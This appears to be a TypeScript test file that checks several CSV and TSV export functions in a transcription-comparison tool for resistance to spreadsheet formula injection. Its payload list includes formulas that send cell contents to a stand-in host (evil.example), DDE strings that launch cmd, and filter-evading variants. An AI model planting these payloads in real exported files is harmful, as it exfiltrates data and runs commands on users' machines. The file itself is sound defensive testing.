import { writeComparisonCsv } from '@lineup/shared/alignment/write-comparison-csv.ts';
import { writeSummaryCsv } from '@lineup/shared/alignment/write-summary-csv.ts';
import { writeCsv as writeReportCsv } from '@lineup/shared/archive/report/write-csv.ts';
import { makeAnswer, makeReport } from '@lineup/shared/archive/testing/make-report.ts';
import { describe, expect, it } from 'vitest';
import { readMarkdown } from '#blocks/messages/read-markdown.ts';
import { writeTableTsv } from '#blocks/messages/write-table-tsv.ts';

/** What a spreadsheet computes, asks another server for, or starts a program with (OWASP, CSV injection). */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"more")',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '=WEBSERVICE("https://evil.example")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '@SUM(1+1)*cmd|x!A0',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  'a;=1+1',
  'a\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
type Writer = (text: string) => string;

function asTable(text: string): string {
  const cell = text.replaceAll('|', String.raw`\|`);
  const node = readMarkdown(`| a |\n| - |\n| ${cell} |\n`).blocks[0]?.node;
  if (node?.type !== 'table') throw new Error('not a table');
  return writeTableTsv(node);
}

const figures = {
  wordErrorRate: 0.1,
  characterErrorRate: null,
  substitutions: 1,
  insertions: 0,
  deletions: 0,
  latency: 1.5,
  realTimeFactor: null,
};

/** Everything that this page gives to a spreadsheet, with a text where a person, a gateway or an imported file can put one. */
const WRITERS: Readonly<Record<string, Writer>> = {
  'a comparison of answers': (text) => writeReportCsv(reportOf(text)),
  'the words of a comparison': (text) => {
    const word = { text, key: text, from: 0, to: text.length };
    const cell = { kind: 'substituted', words: [word] } as const;
    return writeComparisonCsv({ columns: [{ reference: word, cells: [cell] }], times: [null], lanes: [text] });
  },
  'the figures of a comparison': (text) => writeSummaryCsv([{ lane: text, model: text, ...figures }]),
  'a table of an answer': asTable,
};

function reportOf(text: string): Parameters<typeof writeReportCsv>[0] {
  const said = { model: text, gateway: text, label: text, returned: text, text, problem: text };
  const answer = makeAnswer({ ...said, end: { words: text, tone: 'plain' }, figures: [] });
  return makeReport({ input: text, answers: [answer] });
}

/** The cells of a file, read without the code under test, by whatever any spreadsheet takes for their end. */
function readCells(file: string): string[] {
  const cells = file.replace(/^\ufeff/, '').matchAll(/(?:^|[,;\t]|\r?\n)(?:"((?:[^"]|"")*)"|([^",;\t\r\n]*))/g);
  return Array.from(cells, (match) => (match[1] ?? match[2] ?? '').replaceAll('""', '"'));
}

/** What is pasted is cut at tabs and line ends. */
const readPasted = (text: string): string[] => text.split(/[\t\n]/);

describe.each(Object.entries(WRITERS))('S26 %s', (_kind, write) => {
  const read = write === asTable ? readPasted : readCells;

  it.each(FORMULAS)('shows %j and computes nothing', (formula) => {
    const cells = read(write(formula));
    expect(cells.filter((cell) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    expect(cells.join(' ')).toContain(/\w+/.exec(formula)?.[0]);
  });

  it('leaves words as they are', () => {
    expect(read(write('plain')).filter((cell) => cell.startsWith("'"))).toEqual([]);
  });
});
